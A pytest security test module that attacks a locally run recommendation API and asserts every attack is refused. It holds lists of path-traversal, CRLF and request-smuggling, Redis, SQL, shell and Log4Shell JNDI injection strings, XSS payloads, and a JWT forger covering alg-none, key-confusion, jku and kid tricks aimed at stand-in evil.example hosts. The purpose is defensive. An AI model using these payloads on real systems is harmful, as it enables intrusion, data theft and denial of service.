"""Attacks on a running server: each is refused with a problem, and nothing is shown or broken."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hashlib
import hmac
import http.client
import json
import socket
import threading
import time
import uuid
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote

import jwt
import pytest
import redis
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from granian.server.embed import Server as Embedded
from hypothesis import given
from hypothesis import strategies as st

from deploy.service import wait_until
from learner.publish import Publisher
from serving.api.problems import Problem
from serving.api.routes import Role
from serving.api.security import Guard
from serving.assembly import build
from serving.keys import new_key
from serving.producing import LogSink
from serving.redis_table import _Keys, open_table
from serving.server import _options, checked
from stream.log import MemoryLog
from stream.settings import RedisSettings, ServingSettings, Settings
from tests.serving import published

SECRET = "a secret that the issuer and the server share"
ISSUER, AUDIENCE = "https://issuer.example", "tidegraph"
SENTINEL = "what no request may see"
MAX_BODY = 100_000


class Answer(NamedTuple):
    """What came back; status 0 is a connection that was closed without a word."""

    status: int
    headers: Mapping[str, str]
    body: bytes


class Attacked(NamedTuple):
    """A server that runs, and what a test needs to know of it."""

    port: int
    keys: dict[str, str]
    namespace: str
    redis_url: str

    def raw(self, request: bytes) -> Answer:
        """Send bytes as they are."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=60) as connection:
            with contextlib.suppress(OSError):  # it may answer and close before all is sent
                connection.sendall(request)
            answer = http.client.HTTPResponse(connection, method=request.split()[0].decode())
            try:
                answer.begin()
                headers = {name.lower(): value for name, value in answer.getheaders()}
                return Answer(answer.status, headers, answer.read())
            except (OSError, http.client.HTTPException):
                return Answer(0, {}, b"")

    def ask(
        self,
        path: str,
        *,
        method: str = "GET",
        body: bytes | None = None,
        role: str | None = "reader",
        headers: Mapping[str, str] | None = None,
    ) -> Answer:
        """Send a request."""
        told = dict(headers or {})
        if role is not None:
            told["X-API-Key"] = self.keys[role]
        if body is not None:
            told = {"Content-Type": "application/json", "Content-Length": str(len(body))} | told
        lines = [f"{method} {path} HTTP/1.1", "Host: api.example"]
        lines += [f"{name}: {value}" for name, value in told.items()]
        return self.raw("\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + (body or b""))


@pytest.fixture(scope="module")
def server(redis_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    """Run the API over a published table in Redis, with keys and tokens."""
    folder, namespace = tmp_path_factory.mktemp("attacked"), f"attacked-{uuid.uuid4().hex}"
    table = RedisSettings(url=redis_url, namespace=namespace)
    learner = published.Live()
    learner.publisher = Publisher(
        open_table(table), learner.graph, learner.model, now_ms=lambda: 1_000, dim=8
    )
    learner.follow(published.events(320))
    settings = Settings(
        redis=table,
        serving=ServingSettings(
            port=0,
            max_body_bytes=MAX_BODY,
            request_s=60.0,
            keys_file=str(folder / "keys.json"),
            audit_file=str(folder / "audit.jsonl"),
            jwt_key=SECRET,
            jwt_algorithm="HS256",
            jwt_issuer=ISSUER,
            jwt_audience=AUDIENCE,
        ),
    )
    keys = {
        role.name.lower(): new_key(folder / "keys.json", role.name, role.name.lower())  # type: ignore[arg-type] # the names of roles are the names of roles
        for role in Role
    }
    keys["slow"] = new_key(folder / "keys.json", "slow", "reader", requests_per_s=0.01)
    for name in ("lists", "events"):
        keys[name] = new_key(folder / "keys.json", name, "writer", requests_per_s=0.01)
    settings = checked(settings)
    api = build(settings, open_table(table), LogSink(MemoryLog()))
    started: list[tuple[Any, asyncio.AbstractEventLoop]] = []

    async def serve() -> None:
        embedded = Embedded(api, **_options(settings.serving))
        started.append((embedded, asyncio.get_running_loop()))
        await embedded.serve()

    thread = threading.Thread(target=lambda: asyncio.run(serve()))
    thread.start()
    attacked = Attacked(settings.serving.port, keys, namespace, redis_url)

    def ready() -> bool:
        try:
            return attacked.ask("/v1/recommendations/u1").status == 200
        except OSError:
            return False

    try:
        wait_until(ready, 60, "the server to answer")
        yield attacked
    finally:
        embedded, loop = started[0]
        loop.call_soon_threadsafe(embedded.stop)
        thread.join()
        with redis.Redis.from_url(redis_url) as client:
            client.unlink(*client.scan_iter(f"{namespace}:*"))


PATHS = [
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/console/../../../settings.py",
    "/console/%2e%2e%2fserver.py",
    "/console/..%5c..%5cserver.py",
    "/console/....//....//server.py",
    "/console/%252e%252e%252fserver.py",
    "/console//etc/passwd",
    "/console/.git",
    "/console/%00",
    "/console/index.html%00.png",
    "/console/file:%2f%2f%2fetc%2fpasswd",
    "/v1/items/..%2f..%2fstatus/similar",
    "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/v1/history/" + "a" * 20_000,
    "/" + "a/" * 5_000,
]
"""Ways to get at a file, or to break what reads paths."""


@pytest.mark.parametrize("path", PATHS, ids=lambda path: path[:40])
@pytest.mark.parametrize("role", [None, "operator"])
def test_no_path_leads_to_a_file(server: Attacked, path: str, role: str | None) -> None:
    answer = server.ask(path, role=role)
    assert answer.status in {400, 401, 404, 414}
    assert b"root:" not in answer.body
    assert b"import" not in answer.body


EVASIONS = [
    "/v1/status",
    "//v1/status",
    "///v1//status",
    "/v1/status/",
    "/v1/./status",
    "/v1/x/../status",
    "/v1/status;a=b",
    "/V1/Status",
    "/%76%31/status",
    "/v1%2fstatus",
    "/v1/status%20",
    "/v1/status?x-api-key=a",
    "/v1/status#/healthz",
    "/console/../v1/status",
    "/healthz/../v1/status",
    "http://api.example/v1/status",
    "http://localhost/v1/status",
    "*",
]


@pytest.mark.parametrize("path", EVASIONS)
@pytest.mark.parametrize("method", ["GET", "HEAD", "POST", "OPTIONS", "PATCH", "TRACE", "PURGE"])
def test_no_way_to_write_a_path_gets_around_the_guard(
    server: Attacked, path: str, method: str
) -> None:
    answer = server.ask(path, method=method, role=None)
    told_methods = method == "OPTIONS" and not answer.body  # which the open document tells too
    assert answer.status in {400, 401, 404, 405} or told_methods


@pytest.mark.parametrize(
    "headers",
    [
        {"X-HTTP-Method-Override": "GET"},
        {"X-Original-URL": "/healthz"},
        {"X-Rewrite-URL": "/healthz"},
        {"X-Forwarded-For": "127.0.0.1"},
        {"X-Forwarded-User": "operator"},
        {"X-Role": "operator"},
        {"Cookie": "x-api-key=KEY"},
        {"Authorization": "Basic KEY"},
        {"Authorization": "Bearer KEY"},
        {"Authorization": "bearer"},
        {"Authorization": ""},
        {"X-API-KEY-": "KEY"},
        {"x-api-key ": "KEY"},
    ],
    ids=str,
)
def test_no_other_header_lets_anybody_in(server: Attacked, headers: dict[str, str]) -> None:
    told = {name: value.replace("KEY", server.keys["operator"]) for name, value in headers.items()}
    assert server.ask("/v1/status", role=None, headers=told).status in {400, 401}


HEADERS = [
    b"X-A: " + b"a" * 300_000,
    b"".join(b"X-%d: a\r\n" % number for number in range(1_000)) + b"X-A: a",
    b"X-A: a\x00b",
    b"X-A: a\rb",
    b"X-A: a\nX-B: b",
    b"X-A : a",
    b" folded: a",
    b": a",
    b"X-A: \xff\xfe\xc0\xae",
    b"Host: other.example",
    b"X-API-Key: another",
    b"Authorization: Bearer a.b.c",
    b"Content-Length: -1",
    b"Content-Length: 1e3",
    b"Content-Length: 99999999999999999999",
    b"Content-Length: 0\r\nContent-Length: 1",
    b"Transfer-Encoding: nonsense",
    b"Content-Length: 3\r\nTransfer-Encoding: chunked",
    b"Expect: nonsense",
    b"Upgrade: websocket\r\nConnection: Upgrade",
    b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAA",
    b"Range: bytes=0-0,0-0,0-0,0-0",
    b"If-None-Match: *",
    b"If-Modified-Since: nonsense",
    b"Accept: " + b"a/b," * 5_000,
    b"Cookie: " + b"a=b; " * 5_000,
    b"Content-Type: application/json; charset=" + b"x" * 10_000,
]


@pytest.mark.parametrize("header", HEADERS, ids=lambda header: header[:30].decode("latin-1"))
def test_no_header_breaks_the_server(server: Attacked, header: bytes) -> None:
    key = server.keys["reader"].encode()
    first = b"GET /v1/status HTTP/1.1\r\nHost: a\r\nConnection: close\r\nX-API-Key: " + key
    answer = server.raw(first + b"\r\n" + header + b"\r\n\r\n0\r\n\r\n")
    assert answer.status < 500
    assert server.ask("/v1/status").status == 200


def test_a_second_request_hidden_in_a_body_is_not_answered(server: Attacked) -> None:
    key = server.keys["writer"].encode()
    hidden = b"GET /v1/status HTTP/1.1\r\nHost: a\r\nX-API-Key: " + key + b"\r\n\r\n"
    request = (
        b"POST /v1/feedback HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nX-API-Key: "
        + key
        + b"\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    )
    with socket.create_connection(("127.0.0.1", server.port), timeout=60) as connection:
        connection.sendall(request + hidden)
        answer = b"".join(iter(lambda: connection.recv(65_536), b""))
    assert answer.count(b"HTTP/1.1 ") == 1


BODIES = {
    "deep list": b"[" * 50_000,
    "deep object": b'{"a":' * 15_000,
    "closed deep list": b"[" * 45_000 + b"]" * 45_000,
    "long number": b"9" * 90_000,
    "long number in a field": b'{"n": ' + b"9" * 90_000 + b"}",
    "endless number": b'{"n": 1e999999999}',
    "no number": b'{"n": NaN}',
    "double keys": b'{"user_id": "a", "user_id": "b"}',
    "half a pair": b'{"user_id": "\\ud800", "item_id": "\\udfff"}',
    "zero byte": b'{"user_id": "a\\u0000b", "item_id": "i", "name": "click"}',
    "not UTF-8": b'{"user_id": "\xff\xfe"}',
    "UTF-16": '{"user_id": "a"}'.encode("utf-16"),
    "a mark before": b"\xef\xbb\xbf{}",
    "empty": b"",
    "null": b"null",
    "true": b"true",
    "text": b'"text"',
    "empty list": b"[]",
    "empty object": b"{}",
    "many empty objects": b"[" + b"{}," * 30_000 + b"{}]",
    "prototype": b'{"__proto__": {"role": "operator"}, "constructor": {}}',
    "unknown fields": json.dumps({f"field{n}": n for n in range(5_000)}).encode(),
    "more after it": b"{}{}",
    "negative counts": b'{"user": "u1", "n": -1, "items": [], "candidates": [], "users": []}',
    "great counts": b'{"user": "u1", "n": 9223372036854775808, "items": ["i1"]}',
}


def body_routes(server: Attacked) -> list[tuple[str, str]]:
    """Return method and path of each route that takes a body."""
    told = json.loads(server.ask("/openapi.json", role=None).body)
    return [
        (method.upper(), path.replace("{", "").replace("}", ""))
        for path, methods in told["paths"].items()
        for method, operation in methods.items()
        if "requestBody" in operation
    ]


@pytest.mark.parametrize("body", BODIES.values(), ids=list(BODIES))
def test_no_body_breaks_a_route(server: Attacked, body: bytes) -> None:
    routes = body_routes(server)
    assert ("POST", "/v1/feedback") in routes
    for method, path in routes:
        if "rollback" in path or "promote" in path:
            continue  # `{}` is what they want
        answer = server.ask(path, method=method, body=body, role="operator")
        assert answer.status < 500, (method, path, answer)
        if answer.status >= 400:
            assert answer.headers["content-type"] == "application/problem+json"
            assert b"Traceback" not in answer.body
    assert server.ask("/v1/status").status == 200


@pytest.mark.parametrize("chunked", [False, True])
def test_a_body_that_is_too_large_is_not_read_to_its_end(
    server: Attacked, *, chunked: bool
) -> None:
    head = (
        b"POST /v1/feedback HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nX-API-Key: "
        + server.keys["writer"].encode()
    )
    data = b"[" + b" " * MAX_BODY + b"]"
    if chunked:
        head += b"\r\nTransfer-Encoding: chunked\r\n\r\n"
        data = b"%x\r\n%b\r\n0\r\n\r\n" % (len(data), data)
    else:
        head += b"\r\nContent-Length: %d\r\n\r\n" % len(data)
    assert server.raw(head + data).status == 413


def test_a_packed_body_is_not_unpacked(server: Attacked) -> None:
    answer = server.ask(
        "/v1/feedback",
        method="POST",
        body=base64.b64decode("H4sIAAAAAAAAA6uuBQBDv6ajAgAAAA=="),
        role="writer",
        headers={"Content-Encoding": "gzip"},
    )
    assert answer.status in {400, 415}


IDS = [
    "*",
    "?",
    "[a-z]",
    "u1}:seen",
    "u1}",
    "{u:u1}",
    "}:e1:{u:u1",
    "head",
    ":head",
    "../head",
    "u1:attributes",
    "u1}:attributes",
    "$(id)",
    "u1/../head",
    "/head",
    "';DROP TABLE users;--",
    "a b",
    "\u202eevil",
    "u1\u200b",
    "%00",
    "%0d%0aFLUSHALL%0d%0a",
    "'\"\\",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "\U0001f600" * 100,
]
FORBIDDEN_IDS = ["a\r\nFLUSHALL\r\n", "a\x00b", "a\x1b[2J", "", "x" * 513]


def every_read(name: str) -> list[str]:
    """Return the paths that look something up under an id."""
    return [
        f"/v1/recommendations/{name}",
        f"/v1/embeddings/users/{name}",
        f"/v1/embeddings/items/{name}",
        f"/v1/items/{name}/similar",
        f"/v1/users/{name}/neighbours",
        f"/v1/history/{name}",
        f"/v1/graph/users/{name}",
        f"/v1/features/{name}",
    ]


@pytest.mark.parametrize("name", IDS, ids=lambda name: name[:20])
def test_an_id_is_only_ever_an_id(server: Attacked, name: str) -> None:
    client = redis.Redis.from_url(server.redis_url)
    with client:
        client.set(f"{server.namespace}:{{u:{name}}}:sentinel", SENTINEL)
        before = {key: client.dump(key) for key in client.scan_iter(f"{server.namespace}:*")}
        for path in every_read(quote(name, safe="")):
            answer = server.ask(path)
            assert answer.status in {200, 400, 404}, (path, answer)
            assert SENTINEL.encode() not in answer.body
            if answer.status == 200:
                assert json.loads(answer.body)
        after = {key: client.dump(key) for key in client.scan_iter(f"{server.namespace}:*")}
        client.delete(f"{server.namespace}:{{u:{name}}}:sentinel")
    assert before == after


@pytest.mark.parametrize("name", FORBIDDEN_IDS, ids=lambda name: repr(name[:20]))
def test_an_id_that_could_cut_a_line_is_refused(server: Attacked, name: str) -> None:
    for path in every_read(quote(name, safe="")):
        assert server.ask(path).status in {400, 404}


NAMES = st.text(alphabet="ui1:{}*e", max_size=8)


@given(st.lists(st.tuples(st.integers(0, 6), NAMES), min_size=2, max_size=2, unique=True))
def test_no_two_ids_share_a_key_of_redis(asked: list[tuple[int, str]]) -> None:
    made = _Keys("n", 1)
    kinds: list[Callable[[str], str]] = [
        made.user,
        made.seen,
        made.item,
        made.covisited,
        made.user_attributes,
        made.item_attributes,
        lambda _: made.barrier,
    ]
    one, other = (kinds[kind](name) for kind, name in asked)
    assert one != other or {kind for kind, _ in asked} == {6}


def part(value: Any) -> str:
    data = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def forged(header: Any, claims: Any, key: bytes = SECRET.encode(), digest: str = "sha256") -> str:
    """Sign what no library would."""
    signed = f"{part(header)}.{part(claims)}"
    return f"{signed}.{part(hmac.new(key, signed.encode(), digest).digest())}"


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


HEADER = {"alg": "HS256", "typ": "JWT"}


def claims(**changed: Any) -> dict[str, Any]:
    now = time.time()
    usual = {"iss": ISSUER, "aud": AUDIENCE, "sub": "ann", "roles": ["operator"], "exp": now + 600}
    return usual | changed


def test_what_the_forger_signs_would_be_taken_with_the_right_header(server: Attacked) -> None:
    answer = server.ask("/v1/status", role=None, headers=bearer(forged(HEADER, claims())))
    assert answer.status == 200


def tokens() -> dict[str, str]:
    good = forged(HEADER, claims())
    head, body, signature = good.split(".")
    lower = forged(HEADER, claims(roles=["reader"]))
    return {
        "none": f"{part({'alg': 'none'})}.{body}.",
        "None": f"{part({'alg': 'None'})}.{body}.{signature}",
        "no algorithm": forged({}, claims()),
        "null algorithm": forged({"alg": None}, claims()),
        "a list of algorithms": forged({"alg": ["HS256"]}, claims()),
        "lower case": forged({"alg": "hs256"}, claims()),
        "another hash": forged({"alg": "HS512"}, claims(), digest="sha512"),
        "says RS256": forged({"alg": "RS256"}, claims()),
        "no signature": f"{head}.{body}.",
        "cut signature": good[:-4],
        "other signature": f"{head}.{body}.{lower.rsplit('.', 1)[1]}",
        "other claims": f"{head}.{part(claims(roles=['operator'], sub='eve'))}.{signature}",
        "guessed secret": forged(HEADER, claims(), b"secret"),
        "empty secret": forged(HEADER, claims(), b""),
        "own key": forged({**HEADER, "jwk": {"kty": "oct", "k": part(b"evil")}}, claims(), b"evil"),
        "key from elsewhere": forged(
            {**HEADER, "jku": "https://evil.example/jwks"}, claims(), b"evil"
        ),
        "key from a file": forged({**HEADER, "kid": "../../../dev/null"}, claims(), b""),
        "key from a table": forged({**HEADER, "kid": "' UNION SELECT 'a"}, claims(), b"a"),
        "unknown critical header": forged({**HEADER, "crit": ["exp"], "exp": 0}, claims()),
        "ended": forged(HEADER, claims(exp=time.time() - 3_600)),
        "endless": forged(HEADER, {k: v for k, v in claims().items() if k != "exp"}),
        "ends at infinity": forged(HEADER, json.dumps(claims(exp=1e308 * 10)).encode()),
        "ends at no number": forged(HEADER, json.dumps(claims(exp=float("nan"))).encode()),
        "not begun": forged(HEADER, claims(nbf=time.time() + 3_600)),
        "of another issuer": forged(HEADER, claims(iss="https://evil.example")),
        "of several issuers": forged(HEADER, claims(iss=[ISSUER])),
        "for others": forged(HEADER, claims(aud="another")),
        "deep header": forged(b"[" * 1_200, claims()),
        "deep claims": forged(HEADER, b'{"a":' + b"[" * 1_200),
        "claims are a list": forged(HEADER, [claims()]),
        "claims are a number": forged(HEADER, b"1"),
        "long": forged(HEADER, claims(pad="x" * 10_000)),
        "encrypted form": "a.b.c.d.e",
        "no parts": "a",
        "dots": "..",
        "padded": f"{head}==.{body}==.{signature}==",
        "two": f"{good}, {good}",
        "Unicode": "\xe4.\xf6.\xfc",
    }


@pytest.mark.parametrize("name", list(tokens()))
def test_no_forged_or_replayed_token_lets_anybody_in(server: Attacked, name: str) -> None:
    answer = server.ask("/v1/status", role=None, headers=bearer(tokens()[name]))
    assert answer.status == 401, name
    assert answer.headers["www-authenticate"].startswith("Bearer")


def test_a_public_key_is_no_secret(tmp_path: Path) -> None:
    private = rsa.generate_private_key(65_537, 2_048)
    public = private.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    guard = Guard(
        ServingSettings(
            keys_file=str(tmp_path / "keys.json"),
            jwt_key=public.decode(),
            jwt_algorithm="RS256",
            jwt_issuer=ISSUER,
            jwt_audience=AUDIENCE,
        )
    )
    good = jwt.encode(claims(), private, algorithm="RS256")

    def admit(token: str) -> str:
        headers = {"authorization": f"Bearer {token}"}
        return asyncio.run(guard.admit(headers, Role.OPERATOR, "")).name

    assert admit(good) == "ann"
    head, body, signature = good.split(".")
    pss = jwt.encode(claims(), private, algorithm="PS256")
    for key in (public, public.strip(), hashlib.sha256(public).digest()):
        for algorithm in ("HS256", "RS256"):
            with pytest.raises(Problem):
                admit(forged({"alg": algorithm}, claims(), key))
    for token in (pss, f"{part({'alg': 'none'})}.{body}.", f"{head}.{body}.", signature):
        with pytest.raises(Problem):
            admit(token)


def test_who_asks_too_often_keeps_nobody_else_out(server: Attacked) -> None:
    answers = [server.ask("/v1/status", role="slow") for _ in range(5)]
    assert [answer.status for answer in answers] == [200, 429, 429, 429, 429]
    assert 1 <= int(answers[1].headers["retry-after"]) <= 100
    assert server.ask("/v1/status").status == 200


MANY_LISTS = b'{"requests":[%s]}' % b",".join([b'{"user":"u"}'] * 500)


@pytest.mark.parametrize(
    ("role", "path", "body", "counted"),
    [
        ("lists", "/v1/recommendations:batch", MANY_LISTS, 500),
        ("events", "/v1/feedback", b"[%s]" % (b" " * 3 * 16_384), 4),
    ],
)
def test_much_in_one_request_counts_as_much(
    server: Attacked, role: str, path: str, body: bytes, counted: int
) -> None:
    assert server.ask(path, method="POST", role=role, body=body).status in {200, 202}
    again = server.ask(path, method="POST", role=role, body=body)
    assert again.status == 429
    assert int(again.headers["retry-after"]) > 100 * (counted - 1)  # the limit is one in 100 s


@pytest.mark.parametrize("origin", ["https://evil.example", "null", "http://127.0.0.1"])
def test_a_page_elsewhere_can_read_nothing(server: Attacked, origin: str) -> None:
    told = server.ask("/v1/status", headers={"Origin": origin})
    asked = server.ask(
        "/v1/status",
        method="OPTIONS",
        headers={"Origin": origin, "Access-Control-Request-Method": "GET"},
    )
    for answer in (told, asked):
        assert not [name for name in answer.headers if name.startswith("access-control")]


def test_no_page_runs_what_an_id_or_an_error_holds(server: Attacked) -> None:
    script = quote("<script>alert(1)</script>", safe="")
    for path in (f"/v1/embeddings/items/{script}", f"/{script}", f"/v1/status?{script}=1"):
        answer = server.ask(path)
        assert answer.status >= 400
        assert answer.headers["content-type"] == "application/problem+json"
        assert answer.headers["x-content-type-options"] == "nosniff"
    page = server.ask("/docs", role=None)
    assert "default-src 'self'" in page.headers["content-security-policy"]


@pytest.mark.parametrize(
    ("role", "length", "status"), [(None, 10, 401), ("writer", 99_999_999_999, 413)]
)
def test_a_body_that_is_announced_and_never_sent_is_not_waited_for(
    server: Attacked, role: str | None, length: int, status: int
) -> None:
    headers = {"Content-Type": "application/json", "Content-Length": str(length)}
    assert server.ask("/v1/feedback", method="POST", role=role, headers=headers).status == status
